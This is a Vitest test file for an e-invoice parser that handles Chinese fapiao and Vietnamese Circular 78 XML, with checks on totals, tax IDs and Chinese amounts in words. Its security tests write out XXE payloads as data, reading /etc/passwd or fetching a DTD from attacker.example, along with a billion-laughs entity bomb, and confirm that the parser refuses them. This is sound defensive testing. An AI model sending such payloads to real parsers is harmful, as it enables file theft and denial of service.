import fs from "node:fs";
import path from "node:path";
import { describe, expect, it, vi } from "vitest";
import { crossCheckEInvoice, einvoiceMismatch, parseEInvoice } from "@/services/erp-purchase/reconciliation-statement/einvoice";
import { AppError } from "@/services/core/errors";
import { amountInChinese, sameChineseAmount } from "@/lib/amount-in-chinese";

const fixture = (name: string) => fs.readFileSync(path.resolve("tests/fixtures/einvoice", name), "utf8");
const cn = fixture("cn-fapiao.xml");
const vn = fixture("vn-c78.xml");
const bytes = (text: string) => new TextEncoder().encode(text);

function refusal(text: string | Uint8Array): AppError {
  try {
    parseEInvoice(typeof text === "string" ? bytes(text) : text);
  } catch (err) {
    expect(err).toBeInstanceOf(AppError);
    expect((err as AppError).returnCode).toBe(400);
    return err as AppError;
  }
  throw new Error("accepted");
}

describe("e-invoice reader: well-formed files", () => {
  it("reads a 数电票 with its 20-digit number, parties, lines and totals as decimal strings", () => {
    const p = parseEInvoice(bytes(cn));
    expect(p).toMatchObject({
      format: "cn-fapiao",
      number: "24312000000123456789",
      series: null,
      issueDate: "2026-11-02",
      seller: { name: "上海明辉包装制品有限公司", taxId: "91310115MA1H7TQX2B" },
      buyer: { name: "深圳华印贸易有限公司", taxId: "91440300708461136T" },
      currency: "CNY",
      totalNet: "9779.65",
      totalTax: "1236.35",
      total: "11016.00",
      totalInWords: "壹万壹仟零壹拾陆圆整",
    });
    expect(p.lines).toEqual([
      { name: "*印刷品*彩色瓦楞纸箱", quantity: "2000", unitPrice: "3.539823008849557", amount: "7079.65", taxRate: "0.13", tax: "920.35" },
      { name: "*纸制品*产品说明书", quantity: "5000", unitPrice: "0.44", amount: "2200.00", taxRate: "0.13", tax: "286.00" },
      { name: "*设计服务*包装设计费", quantity: "1", unitPrice: "500", amount: "500.00", taxRate: "0.06", tax: "30.00" },
    ]);
  });

  it("takes the number from Header/EIid and the date from RequestTime when the supervision block is absent", () => {
    const p = parseEInvoice(bytes(cn.replace(/<TaxSupervisionInfo>[\s\S]*<\/TaxSupervisionInfo>/, "")));
    expect(p.number).toBe("24312000000123456789");
    expect(p.issueDate).toBe("2026-11-02");
  });

  it("reads a Circular 78 invoice: series from KHMSHDon + KHHDon, note lines skipped, taxes per rate", () => {
    const p = parseEInvoice(bytes(vn));
    expect(p).toMatchObject({
      format: "vn-c78",
      number: "125",
      series: "1C26TMH",
      issueDate: "2026-11-05",
      seller: { name: "CÔNG TY TNHH BAO BÌ MINH HUY", taxId: "0312345678" },
      buyer: { name: "CÔNG TY TNHH THƯƠNG MẠI HOA ẤN VIỆT NAM", taxId: "0109876543" },
      currency: "VND",
      totalNet: "20734567.00",
      totalTax: "1683457.00",
      total: "22418024.00",
      totalInWords: "Hai mươi hai triệu bốn trăm mười tám nghìn không trăm hai mươi bốn đồng.",
    });
    expect(p.lines.map((l) => [l.amount, l.taxRate, l.tax])).toEqual([
      ["12500000.00", "0.08", "1000000.00"],
      ["7000000.00", "0.08", "560000.00"],
      ["1234567.00", "0.1", "123457.00"],
    ]);
    expect(p.lines[0]).toMatchObject({ name: "Thùng carton 5 lớp 400x300x250", quantity: "1000", unitPrice: "12500" });
  });

  it("gives the rounding drift of a rate's tax to its largest line, so lines still sum to the total tax", () => {
    const two = vn
      .replace(/<DSHHDVu>[\s\S]*<\/DSHHDVu>/, `<DSHHDVu>
        <HHDVu><TChat>1</TChat><THHDVu>A</THHDVu><ThTien>1005</ThTien><TSuat>10%</TSuat></HHDVu>
        <HHDVu><TChat>1</TChat><THHDVu>B</THHDVu><ThTien>1006</ThTien><TSuat>10%</TSuat></HHDVu></DSHHDVu>`)
      .replace(/<THTTLTSuat>[\s\S]*<\/THTTLTSuat>/, "<THTTLTSuat><LTSuat><TSuat>10%</TSuat><ThTien>2011</ThTien><TThue>201</TThue></LTSuat></THTTLTSuat>")
      .replace(/<TgTCThue>\d+/, "<TgTCThue>2011").replace(/<TgTThue>\d+/, "<TgTThue>201").replace(/<TgTTTBSo>\d+/, "<TgTTTBSo>2212");
    const p = parseEInvoice(bytes(two));
    expect(p.lines.map((l) => l.tax)).toEqual(["101.00", "100.00"]);
    expect(p.totalTax).toBe("201.00");
  });

  it("reads a UTF-8 BOM and a trade-discount line (TChat 3) as a reduction", () => {
    const withDiscount = vn
      .replace("<TChat>4</TChat>", "<TChat>3</TChat>")
      .replace("<THHDVu>Giao hàng theo đơn PO-2026-0315</THHDVu>", "<THHDVu>Chiết khấu thương mại</THHDVu><ThTien>500000</ThTien><TSuat>8%</TSuat>")
      .replace("<ThTien>19500000</ThTien><TThue>1560000</TThue>", "<ThTien>19000000</ThTien><TThue>1520000</TThue>")
      .replace("<TgTCThue>20734567", "<TgTCThue>20234567").replace("<TgTThue>1683457", "<TgTThue>1643457").replace("<TgTTTBSo>22418024", "<TgTTTBSo>21878024");
    const p = parseEInvoice(bytes(`\uFEFF${withDiscount}`));
    expect(p.lines[3]).toMatchObject({ amount: "-500000.00", tax: "-40000.00" });
    expect(p.total).toBe("21878024.00");
  });
});

describe("e-invoice reader: inconsistent files", () => {
  it.each([
    ["a line amount that does not add up", cn.replace("<Amount>2200.00</Amount>", "<Amount>2200.01</Amount>"), "validation.einvoice.linesMismatch"],
    ["a line tax that does not add up", cn.replace("<ComTaxAm>286.00</ComTaxAm>", "<ComTaxAm>286.10</ComTaxAm>"), "validation.einvoice.linesMismatch"],
    ["net + tax ≠ total", cn.replace("11016.00</TotalTax-includedAmount>", "11016.01</TotalTax-includedAmount>"), "validation.einvoice.totalMismatch"],
    ["words that say another amount", cn.replace("壹万壹仟零壹拾陆圆整", "壹万壹仟零壹拾柒圆整"), "validation.einvoice.totalMismatch"],
    ["a 19-digit number", cn.replaceAll("24312000000123456789", "2431200000012345678"), "validation.einvoice.badNumber"],
    ["an impossible date", cn.replace("<IssueTime>2026-11-02", "<IssueTime>2026-02-30"), "validation.einvoice.badDate"],
    ["an amount in thousandths", cn.replace("<TotalTaxAm>1236.35", "<TotalTaxAm>1236.355"), "validation.einvoice.badAmount"],
    ["a float written as an exponent", cn.replace("<Amount>500.00", "<Amount>5e2"), "validation.einvoice.badAmount"],
    ["no seller tax ID", cn.replace(/<SellerIdNum>[^<]*<\/SellerIdNum>/, ""), "validation.einvoice.missingField"],
    ["a Vietnamese total payment that is not net + tax", vn.replace("<TgTTTBSo>22418024", "<TgTTTBSo>22418000"), "validation.einvoice.totalMismatch"],
    ["a Vietnamese rate total far from its lines", vn.replace("<TThue>1560000</TThue>", "<TThue>1560100</TThue>").replace("<TgTThue>1683457", "<TgTThue>1683557").replace("<TgTTTBSo>22418024", "<TgTTTBSo>22418124"), "validation.einvoice.linesMismatch"],
    ["another XML", `<?xml version="1.0"?><Invoice><ID>1</ID></Invoice>`, "validation.einvoice.unknownFormat"],
  ])("refuses %s", (_, text, key) => {
    expect(refusal(text).messageKey).toBe(key);
  });
});

describe("e-invoice reader: hostile and broken files", () => {
  const xxe = (target: string) => `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE EInvoice [ <!ENTITY xxe SYSTEM "${target}"> ]>
<EInvoice><EInvoiceData><SellerInformation><SellerName>&xxe;</SellerName></SellerInformation></EInvoiceData></EInvoice>`;

  it.each(["file:///etc/passwd", "http://127.0.0.1:9/steal", "https://attacker.example/x.dtd"])("refuses an external entity to %s before resolving it", (target) => {
    const err = refusal(xxe(target));
    expect(err.messageKey).toBe("validation.einvoice.doctype");
    expect(JSON.stringify(err.values)).not.toContain("root:");
  });

  it("refuses a parameter entity and an external DTD, in any case of the keyword", () => {
    expect(refusal(`<?xml version="1.0"?><!doctype HDon SYSTEM "http://attacker.example/a.dtd"><HDon/>`).messageKey).toBe("validation.einvoice.doctype");
    expect(refusal(`<?xml version="1.0"?><!DOCTYPE HDon [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><HDon/>`).messageKey).toBe("validation.einvoice.doctype");
  });

  it("refuses an entity reference without a DTD as malformed (only the five predefined entities exist)", () => {
    expect(refusal(cn.replace("李静", "&xxe;")).messageKey).toBe("validation.einvoice.malformed");
    expect(parseEInvoice(bytes(cn.replace("上海明辉包装制品有限公司", "上海明辉包装&amp;制品有限公司"))).seller.name).toBe("上海明辉包装&制品有限公司");
  });

  it("refuses a billion-laughs payload without expanding it: fast and with flat memory", () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("\n");
    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n<EInvoice><EInvoiceData>&lol9;</EInvoiceData></EInvoice>`;
    global.gc?.();
    const before = process.memoryUsage().heapUsed;
    const started = performance.now();
    for (let i = 0; i < 100; i++) expect(refusal(bomb).messageKey).toBe("validation.einvoice.doctype");
    expect(performance.now() - started).toBeLessThan(1000);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(32 * 1024 * 1024);
  });

  it("refuses an oversized file by its length, before decoding or parsing it", () => {
    const big = new Uint8Array(2 * 1024 * 1024 + 1).fill(0x20);
    const decode = vi.spyOn(TextDecoder.prototype, "decode");
    try {
      const err = refusal(big);
      expect(err.messageKey).toBe("validation.einvoice.tooLarge");
      expect(err.values).toEqual({ max: "2 MB" });
      expect(decode).not.toHaveBeenCalled();
    } finally {
      decode.mockRestore();
    }
  });

  it("caps depth and element count while parsing", () => {
    expect(refusal(`<EInvoice>${"<a>".repeat(40)}${"</a>".repeat(40)}</EInvoice>`).messageKey).toBe("validation.einvoice.tooDeep");
    expect(refusal(`<EInvoice>${"<a/>".repeat(60_000)}</EInvoice>`).messageKey).toBe("validation.einvoice.tooManyNodes");
  });

  it.each([
    ["a mismatched tag", cn.replace("</SellerName>", "</SellerNam>")],
    ["a truncated file", cn.slice(0, cn.length / 2)],
    ["two roots", `${cn}<EInvoice/>`],
    ["text only", "not xml at all"],
    ["an empty file", ""],
  ])("refuses %s as malformed", (_, text) => {
    expect(refusal(text).messageKey).toBe("validation.einvoice.malformed");
  });

  it("refuses other encodings: UTF-16, Latin-1 declared, NUL bytes", () => {
    const utf16 = new Uint8Array([0xff, 0xfe, ...Buffer.from(cn, "utf16le")]);
    expect(refusal(utf16).messageKey).toBe("validation.einvoice.encoding");
    expect(refusal(cn.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')).messageKey).toBe("validation.einvoice.encoding");
    expect(refusal(cn.replace("李静", "李\u0000静")).messageKey).toBe("validation.einvoice.encoding");
  });
});

describe("e-invoice cross-check", () => {
  const parsed = parseEInvoice(bytes(cn));
  const expected = { supplierTaxId: "91310115MA1H7TQX2B", buyerName: "深圳华印贸易有限公司", buyerTaxId: "91440300708461136T", total: "11016", numberUsed: false };

  it("passes an invoice that fits the statement (ids compared without case or spacing)", () => {
    expect(crossCheckEInvoice(parsed, { ...expected, supplierTaxId: "91310115ma1h7tqx2b " }, "en")).toEqual([]);
  });

  it("names each failed check with its message and values", () => {
    expect(crossCheckEInvoice(parsed, { ...expected, supplierTaxId: "91310000132149237G" }, "en")).toEqual([
      { field: "seller.taxId", message: "validation.einvoice.sellerTaxId", values: { sellerTaxId: "91310115MA1H7TQX2B", supplierTaxId: "91310000132149237G" } },
    ]);
    expect(crossCheckEInvoice(parsed, { ...expected, numberUsed: true }, "en")).toEqual([
      { field: "number", message: "validation.einvoice.numberUsed", values: { number: "24312000000123456789" } },
    ]);
    expect(crossCheckEInvoice(parsed, { ...expected, total: "11016.01" }, "en")).toEqual([
      { field: "total", message: "validation.einvoice.total", values: { invoiceTotal: "11,016.00", expectedTotal: "11,016.01", difference: "-0.01" } },
    ]);
    expect(crossCheckEInvoice(parsed, { ...expected, total: "11016.01" }, "vi")[0]!.values).toEqual({ invoiceTotal: "11.016,00", expectedTotal: "11.016,01", difference: "-0,01" });
    expect(crossCheckEInvoice(parsed, { ...expected, buyerName: "深圳华印科技有限公司" }, "en")[0]).toMatchObject({ field: "buyer", message: "validation.einvoice.buyer" });
    expect(crossCheckEInvoice(parsed, { ...expected, buyerTaxId: "91440300708461137X" }, "en")[0]).toMatchObject({ field: "buyer" });
  });

  it("reports every failure at once, as one 400 with field errors", () => {
    const errors = crossCheckEInvoice(parseEInvoice(bytes(vn)), { supplierTaxId: "0300000000", buyerName: "Other Co", buyerTaxId: null, total: "1", numberUsed: true }, "en");
    expect(errors.map((e) => e.field)).toEqual(["seller.taxId", "buyer", "total", "number"]);
    expect(errors[3]!.values).toEqual({ number: "1C26TMH 125" });
    const err = einvoiceMismatch(errors);
    expect(err.returnCode).toBe(400);
    expect(err.fieldErrors).toEqual({ "seller.taxId": ["validation.einvoice.sellerTaxId"], buyer: ["validation.einvoice.buyer"], total: ["validation.einvoice.total"], number: ["validation.einvoice.numberUsed"] });
  });
});

describe("amount in Chinese capitals", () => {
  it.each([
    ["11016.00", "壹万壹仟零壹拾陆圆整"],
    ["1130.05", "壹仟壹佰叁拾圆零伍分"],
    ["100010", "壹拾万零壹拾圆整"],
    ["1000000001.10", "壹拾亿零壹圆壹角整"],
    ["0.05", "伍分"],
    ["0", "零圆整"],
    ["-500", "（负数）伍佰圆整"],
  ])("%s is %s", (amount, words) => {
    expect(amountInChinese(amount)).toBe(words);
  });
  it("accepts the usual variant spellings", () => {
    expect(sameChineseAmount("壹仟壹佰叁拾元整", "1130")).toBe(true);
    expect(sameChineseAmount("拾圆正", "10")).toBe(true);
    expect(sameChineseAmount("⊗伍佰圆整", "-500")).toBe(true);
    expect(sameChineseAmount("壹仟壹佰叁拾圆整", "1130.01")).toBe(false);
  });
});
